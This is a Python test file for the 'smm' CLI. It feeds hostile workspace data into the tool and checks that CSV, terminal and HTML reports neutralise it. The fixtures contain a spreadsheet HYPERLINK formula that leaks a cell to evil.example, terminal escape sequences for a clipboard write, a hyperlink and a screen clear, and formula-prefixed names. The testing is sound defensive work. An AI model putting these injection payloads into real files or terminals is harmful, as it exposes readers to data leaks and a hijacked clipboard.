"""Outputs that cannot be turned against the reader, from the reader's side: a workspace
whose posts, members and competitor names carry spreadsheet formulas, terminal escape
sequences and Arabic text, reported through the ``smm`` CLI."""

from __future__ import annotations

import csv
import os
import pty
import re
import select
import stat
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from smmcore.cli.app import App
from smmcore.cli.main import cli

END = date(2026, 3, 31)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
ESCAPES = "\x1b]8;;https://evil.example\x07open\x1b]8;;\x07 \x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[31m"
ARABIC = "مخبز الحي"
CAPTURED = "2026-03-30T23:30:00+02:00"


def run(ws: Path, *args: str):
    return CliRunner().invoke(cli, list(args), obj=App(workspace_dir=ws), catch_exceptions=False)


@pytest.fixture(scope="module")
def hostile_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from smm_files.demo import write_demo_workspace

    ws = write_demo_workspace(tmp_path_factory.mktemp("hostile") / "ws", end_date=END)
    posts = ws / "data" / "posts.csv"
    with posts.open("a", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, quoting=csv.QUOTE_ALL)
        for i, text in enumerate([FORMULA, f"Pane {ESCAPES}caldo", f"{ARABIC} اليوم"]):
            writer.writerow(
                ["instagram", "fornorossi.bologna", f"H{i}", f"2026-03-2{i}T10:00:00+01:00",
                 "post", text, "", "it", 90000 - i, 10, 10, "", "", "", "", "", "", CAPTURED]
            )  # fmt: skip
    audience = ws / "data" / "audience.csv"
    with audience.open("a", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, quoting=csv.QUOTE_ALL)
        writer.writerow(
            ["instagram", "fornorossi.bologna", "-evil+cmd", f"+{FORMULA}", f"-{ESCAPES}bio", "en",
             "Roma", 999999, 1, "true", "2026-03-03T09:00:00+01:00"]
        )  # fmt: skip
    with (ws / "data" / "interactions.csv").open("a", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, quoting=csv.QUOTE_ALL)
        for i in range(6):
            writer.writerow(
                ["instagram", "fornorossi.bologna", "-evil+cmd", "reply", f"H{i % 3}",
                 f"2026-03-2{i}T11:00:00+01:00", f"evil{i}"]
            )  # fmt: skip
    toml = ws / "smm.toml"
    toml.write_text(
        toml.read_text(encoding="utf-8").replace(
            'name = "Pasticceria Neri"', 'name = "@SUM(1+1) Pasticceria\\u001b[2J"'
        ),
        encoding="utf-8",
    )
    result = run(ws, "sync")
    assert result.exit_code == 0, result.output
    return ws


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_inert(cells: list[str]) -> None:
    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert number.fullmatch(cell), f"a spreadsheet would run {cell!r}"


def test_report_csv_neutralises_formulas_and_keeps_numbers(hostile_ws: Path) -> None:
    target = hostile_ws / "out.csv"
    result = run(hostile_ws, "report", "--format", "csv", "-o", str(target))
    assert result.exit_code == 0, result.output
    cells = _cells(target)
    _assert_inert(cells)
    assert any(c.startswith("'@SUM(1+1) Pasticceria") for c in cells)
    assert any(re.fullmatch(r"-\d+(\.\d+)?", c) for c in cells)  # negative changes stay numbers


def test_audience_export_neutralises_formulas(hostile_ws: Path) -> None:
    target = hostile_ws / "contacts.csv"
    result = run(hostile_ws, "audience", "segments", "--export", str(target))
    if "Exported" not in result.output:  # segments may not list members; 'show' does
        result = run(hostile_ws, "audience", "influencers", "--export", str(target))
    assert result.exit_code == 0, result.output
    cells = _cells(target)
    assert "'-evil+cmd" in cells
    _assert_inert(cells)


def _null_device(folder: Path) -> Path:
    """A private null device when running as root (where the bug replaced /dev/null itself;
    a test must never risk the machine's), else /dev/null (which a user cannot replace)."""
    if os.geteuid() != 0:
        return Path("/dev/null")
    node = folder / "null"
    if not node.exists():
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    return node


def test_report_to_a_null_device_and_to_a_fifo(hostile_ws: Path) -> None:
    null = _null_device(hostile_ws)
    result = run(hostile_ws, "report", "--format", "json", "-o", str(null))
    assert result.exit_code == 0, result.output
    after = null.stat()
    assert stat.S_ISCHR(after.st_mode) and after.st_rdev == os.makedev(1, 3)

    fifo = hostile_ws / "report.pipe"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    result = run(hostile_ws, "report", "--format", "markdown", "-o", str(fifo))
    data, _ = reader.communicate(timeout=30)
    assert result.exit_code == 0, result.output
    assert b"Forno Rossi" in data
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_terminal_report_carries_no_escape_sequence_from_the_data(hostile_ws: Path) -> None:
    result = run(hostile_ws, "report", "--format", "terminal")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x9b" not in result.output
    assert "Pane open caldo" in result.output


def test_on_a_real_terminal_only_smm_own_colours_remain(hostile_ws: Path) -> None:
    """Run ``smm`` on a pseudo-terminal: the post's OSC hyperlink, clipboard write and screen
    clear never reach it, while rich still colours the table."""
    pid, fd = pty.fork()
    if pid == 0:  # the child: smm on the terminal
        os.environ["COLUMNS"] = "200"
        os.execv(
            sys.executable,
            [sys.executable, "-m", "smmcore", "-w", str(hostile_ws), "report", "-f", "terminal"],
        )
    chunks = []
    while True:
        ready, _, _ = select.select([fd], [], [], 60)
        if not ready:
            break
        try:
            data = os.read(fd, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    _, status = os.waitpid(pid, 0)
    out = b"".join(chunks).decode("utf-8", "replace")
    assert os.waitstatus_to_exitcode(status) == 0, out
    assert "Pane open caldo" in out
    assert "\x1b]" not in out and "\x1b[2J" not in out
    assert re.search(r"\x1b\[[0-9;]*m", out)  # rich's styles still there


def test_html_isolates_right_to_left_text(hostile_ws: Path) -> None:
    target = hostile_ws / "out.html"
    result = run(hostile_ws, "report", "--format", "html", "-o", str(target))
    assert result.exit_code == 0, result.output
    html = target.read_text(encoding="utf-8")
    # the Arabic post sits in a cell whose direction follows its own text
    assert re.search(r'<td class="post-text" dir="auto">' + ARABIC, html)
    # names from the workspace or a network are isolated from the text around them
    assert "<h1>" in html and "<bdi>Forno Rossi</bdi>" in html
    assert "svg.chart text { unicode-bidi: plaintext; }" in html
    assert "\x1b" not in html  # escape sequences never reach a file a browser shows either
